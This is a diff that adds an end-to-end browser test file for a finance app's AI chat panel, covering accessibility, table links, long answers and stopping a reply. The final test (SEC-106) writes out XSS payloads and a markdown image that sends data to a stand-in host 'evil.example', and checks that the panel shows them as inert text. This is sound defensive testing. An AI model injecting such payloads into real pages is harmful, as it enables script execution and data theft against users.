@@ -1,0 +1,189 @@
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { calendarDate } from '#domain/calendar-date';
+import { inTransaction } from '../../src/server/platform/database/transaction.ts';
+import { prepareDemoAccounts } from '../../src/server/portfolio/demo-data/demo-accounts.ts';
+import { testDataKeys } from '../../src/testing/app/test-data-keys.ts';
+import { chatTexts } from '../../src/web/platform/texts/chat.ts';
+import { informationTexts } from '../../src/web/platform/texts/information.ts';
+import { signIn, type Account } from '../support/accounts.ts';
+import { expectAccessible } from '../support/axe.ts';
+import { startBrowser } from '../support/browser.ts';
+import { readText } from '../support/read.ts';
+import { startSite, type Site } from '../support/site.ts';
+import { AT_THE_DESK, ON_THE_PHONE, visit, type Look } from '../support/visit.ts';
+
+let browser: Browser;
+let site: Site;
+let owner: Account;
+
+beforeAll(async () => {
+  browser = await startBrowser();
+  site = await startSite(async (db) => {
+    const today = calendarDate(new Date().toISOString().slice(0, 10));
+    const accounts = await inTransaction(db, (tx) =>
+      prepareDemoAccounts(tx, { today, dataKeys: testDataKeys() }),
+    );
+    owner = accounts[1]!;
+  });
+});
+afterAll(() => Promise.all([browser.close(), site.stop()]));
+
+async function openPanel(page: Page, look: Look) {
+  await signIn(page, owner);
+  await page.locator('#assistant').click();
+  const texts = chatTexts[look.language];
+  const panel = page.getByRole('dialog', { name: texts.title });
+  const log = panel.getByRole('log');
+  await log.getByText(texts.greeting).waitFor();
+  return { texts, panel, log, field: panel.getByRole('textbox') };
+}
+
+/** The answer of a server that sends these events. */
+async function sendEvents(page: Page, answer: { content: string; sources?: unknown[] }): Promise<void> {
+  const body =
+    `:\n\nevent: progress\ndata: {"tool":"list_holdings"}\n\nevent: piece\ndata: ${JSON.stringify({ text: answer.content })}\n\n` +
+    `data: ${JSON.stringify(answer)}\n\n`;
+  await page.route('**/api/ai/chat', (route) =>
+    route.fulfill({ contentType: 'text/event-stream; charset=utf-8', body }),
+  );
+}
+
+describe.each([AT_THE_DESK, ON_THE_PHONE])('at $width pixels, in $language', (look) => {
+  test('three questions to begin with are answered, by keyboard', async () => {
+    await visit({ browser, site, look }, async ({ page }) => {
+      const { texts, panel, log } = await openPanel(page, look);
+      for (const example of texts.examples) await panel.getByRole('button', { name: example }).waitFor();
+      await expectAccessible(page);
+      await panel.getByRole('button', { name: texts.examples[0]! }).focus();
+      await page.keyboard.press('Enter');
+      await expect.poll(() => readText(log)).toMatch(/\d EUR/);
+      expect(await panel.getByRole('button', { name: texts.examples[1]! }).count()).toBe(0);
+      await panel.getByRole('button', { name: texts.again }).waitFor();
+      await expectAccessible(page);
+    });
+  });
+
+  test('an answer names its rows by links, in a table too', async () => {
+    await visit({ browser, site, look }, async ({ page }) => {
+      const { log, field, panel } = await openPanel(page, look);
+      const sources = [
+        { kind: 'bond', id: 1, isin: 'BG2030026111', expired: false },
+        { kind: 'etf', id: 1, isin: 'IE00B4L5Y983', expired: false },
+      ];
+      await sendEvents(page, {
+        content: 'These:\n| ISIN | YTM |\n|---|--:|\n| BG2030026111 | 2.37% |\n| <b>x</b> | 4.50% |',
+        sources,
+      });
+      await field.fill('Which?');
+      await field.press('Enter');
+      await log.getByRole('table').getByRole('cell', { name: '<b>x</b>' }).waitFor();
+      expect(await log.getByRole('link', { name: 'IE00B4L5Y983' }).getAttribute('href')).toBe(
+        '/my/etfs?q=IE00B4L5Y983',
+      );
+      await expectAccessible(page);
+      await log.getByRole('table').getByRole('link', { name: 'BG2030026111' }).click();
+      await page.waitForURL('**/bond/1');
+      expect(await panel.isVisible()).toBe(look.width === 1440);
+    });
+  });
+
+  test('what the assistant sees is shown; Escape closes that alone, and the focus returns', async () => {
+    await visit({ browser, site, look }, async ({ page }) => {
+      const { texts, panel } = await openPanel(page, look);
+      const opener = panel.getByRole('button', { name: texts.sees.link });
+      await opener.click();
+      const sees = page.getByRole('dialog', { name: texts.sees.title });
+      await sees.getByText(texts.sees.nothing).waitFor();
+      await expectAccessible(page);
+      await page.keyboard.press('Escape');
+      await sees.waitFor({ state: 'hidden' });
+      expect(await panel.isVisible()).toBe(true);
+      expect(await opener.evaluate((element) => element === document.activeElement)).toBe(true);
+      await page.goto('/privacy');
+      await page.getByText(informationTexts[look.language].privacy.assistant.nowhere).waitFor();
+    });
+  });
+});
+
+describe.each([AT_THE_DESK, ON_THE_PHONE])('a long answer at $width pixels, in $language', (look) => {
+  test('is read from its beginning, and the rest of its rows opens', async () => {
+    await visit({ browser, site, look }, async ({ page }) => {
+      const { texts, panel, log, field } = await openPanel(page, look);
+      await panel.getByText(texts.noAdvice).waitFor();
+      const rows = Array.from(
+        { length: 16 },
+        (_, row) => `| BG20400${10_000 + row} | ${row + 1}.12.2025\u00a0г. | 1.00 EUR |`,
+      );
+      await sendEvents(page, {
+        content: ['First line', '| ISIN | Day | Sum |', ...rows, 'Last line'].join('\n'),
+      });
+      for (const question of ['One?', 'Two?']) {
+        await field.fill(question);
+        await field.press('Enter');
+        await expect.poll(() => log.getByText('Last line').count()).toBe(question === 'One?' ? 1 : 2);
+        const top = (await log.boundingBox())!.y;
+        const below = async () => (await log.getByText(question).boundingBox())!.y - top;
+        await expect.poll(below).toBeGreaterThanOrEqual(0);
+        await expect.poll(below).toBeLessThan(40);
+      }
+      const answer = log.getByRole('table').last();
+      expect(await answer.getByRole('row').count()).toBe(11);
+      const cell = answer.getByRole('cell', { name: 'BG2040010000' });
+      expect((await cell.boundingBox())!.height).toBeLessThan(40);
+      await log
+        .getByRole('button', { name: texts.moreRows(6) })
+        .last()
+        .click();
+      await expect.poll(() => answer.getByRole('row').count()).toBe(17);
+      await expectAccessible(page);
+      await log.getByRole('button', { name: texts.fewerRows }).click();
+      await expect.poll(() => answer.getByRole('row').count()).toBe(11);
+    });
+  });
+});
+
+test('an answer is stopped, and the question asked again', async () => {
+  await visit({ browser, site }, async ({ page }) => {
+    const { texts, panel, log, field } = await openPanel(page, AT_THE_DESK);
+    const sent: unknown[] = [];
+    await page.route('**/api/ai/chat', async (route) => {
+      sent.push(route.request().postDataJSON());
+      if (sent.length > 1) await route.fulfill({ json: { content: 'An answer' } });
+    });
+    await field.fill('How much?');
+    await field.press('Enter');
+    await log.getByText(texts.thinking).waitFor();
+    await panel.getByRole('button', { name: texts.stop }).click();
+    await log.getByText(texts.stopped).waitFor();
+    expect(await panel.getByRole('button', { name: texts.stop }).count()).toBe(0);
+    await panel.getByRole('button', { name: texts.again }).click();
+    await log.getByText('An answer').waitFor();
+    expect(await log.getByText(texts.stopped).count()).toBe(0);
+    expect(sent).toEqual(Array(2).fill({ messages: [{ role: 'user', content: 'How much?' }] }));
+  });
+});
+
+test('what an answer says becomes no markup, no link and no request (SEC-106)', async () => {
+  const hostile =
+    '<img src=/evil onerror=alert(1)> ![x](https://evil.example/?d=EGN) [a](javascript:alert(1))\n| <img src=/evil> | [b](javascript:alert(1)) |\n| ![y](https://evil.example/) | <script>alert(1)</script> |';
+  await visit({ browser, site }, async ({ page }) => {
+    const { log, field } = await openPanel(page, AT_THE_DESK);
+    const elsewhere: string[] = [];
+    page.on('request', (request) => {
+      if (request.url().includes('evil')) elsewhere.push(request.url());
+    });
+    await sendEvents(page, { content: hostile, sources: [] });
+    await field.fill('Hello');
+    await field.press('Enter');
+    await log.getByRole('table').waitFor();
+    expect(await log.locator('img, a, script, iframe').count()).toBe(0);
+    for (const text of [
+      '<img src=/evil onerror=alert(1)>',
+      '![y](https://evil.example/)',
+      '<script>alert(1)</script>',
+    ])
+      await expect.poll(() => readText(log)).toContain(text);
+    expect(elsewhere).toEqual([]);
+  });
+});
